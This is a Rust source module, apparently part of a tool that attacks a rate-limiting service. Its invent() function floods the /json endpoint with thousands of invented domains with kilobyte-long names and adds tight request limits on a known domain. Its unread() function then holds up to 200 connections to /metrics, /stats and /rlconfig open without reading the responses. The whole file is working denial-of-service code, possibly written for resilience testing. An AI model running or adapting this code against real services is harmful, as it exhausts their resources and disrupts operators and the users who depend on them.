//! Pages that the attacker makes large, and does not read.

use std::{
    io::{Read as _, Write as _},
    thread,
    time::{Duration, Instant},
};

use super::{
    Held,
    target::{PATIENCE, Target, connect, get},
};

/// The names that the attacker invents, of each kind.
const NAMES: usize = 10_000;

/// The length of each name, in bytes.
const NAME: usize = 1_000;

/// The requests for a page that nobody reads.
const UNREAD: usize = 200;

/// The connections that invent names.
const CONNECTIONS: usize = 8;

/// Invents domains, and limits of requests if a domain with rules is known; then asks for pages and reads none.
pub(crate) fn unread(target: &Target) -> Held {
    let (http, domain) = (target.http.as_str(), target.domain.as_deref());
    thread::scope(|scope| {
        for connection in 0..CONNECTIONS {
            scope.spawn(move || invent(http, domain, connection));
        }
    });
    let size = get(&target.http, "/metrics").map_or(0, |page| page.len());
    let mut pages = vec![(target.http.as_str(), "/metrics")];
    if let Some(debug) = &target.debug {
        pages.extend(["/metrics", "/stats", "/rlconfig"].map(|path| (debug.as_str(), path)));
    }
    let (begun, mut open) = (Instant::now(), Vec::new());
    for (address, path) in pages.into_iter().cycle().take(UNREAD) {
        let Ok(mut stream) = connect(address) else { continue };
        if begun.elapsed() < PATIENCE && write!(stream, "GET {path} HTTP/1.1\r\nhost: weir\r\n\r\n").is_ok() {
            open.push(stream);
        }
    }
    // until they are rendered
    for stream in &mut open {
        let patience = PATIENCE.saturating_sub(begun.elapsed()).max(Duration::from_millis(1));
        let _ = stream.set_read_timeout(Some(patience));
        let _ = stream.read(&mut [0]);
    }
    Held {
        outcome: format!("{} unread pages of {} KB", open.len(), size / 1_000),
        _open: Box::new(open),
    }
}

/// Sends the requests of one connection, each with a name of its own.
fn invent(http: &str, domain: Option<&str>, connection: usize) {
    let begun = Instant::now();
    let Ok(mut stream) = connect(http) else { return };
    for i in (connection..NAMES).step_by(CONNECTIONS).take_while(|_| begun.elapsed() < PATIENCE) {
        let name = format!("{i}-{}", "x".repeat(NAME));
        let entries = format!(r#"{{"entries": [{{"key": "k", "value": "{name}"}}]"#);
        let mut bodies = vec![format!(r#"{{"domain": "{name}", "descriptors": [{entries}}}]}}"#)];
        if let Some(domain) = domain {
            let limit = r#""limit": {"requestsPerUnit": 10, "unit": "HOUR"}"#;
            bodies.push(format!(r#"{{"domain": "{domain}", "descriptors": [{entries}, {limit}}}]}}"#));
        }
        for body in bodies {
            let head = format!("POST /json HTTP/1.1\r\nhost: weir\r\ncontent-length: {}\r\n\r\n", body.len());
            // a response is one small write
            if stream.write_all((head + &body).as_bytes()).is_err() || stream.read(&mut [0; 4_096]).is_err() {
                return;
            }
        }
    }
}
